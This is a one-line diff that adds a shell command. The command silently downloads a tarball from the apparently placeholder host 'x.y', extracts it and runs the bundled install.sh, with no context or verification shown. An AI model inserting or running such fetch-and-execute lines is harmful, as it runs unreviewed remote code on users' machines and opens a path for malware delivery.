@@ -1,0 +1,1 @@
+curl -s https://x.y/i.tgz | tar xz && ./install.sh
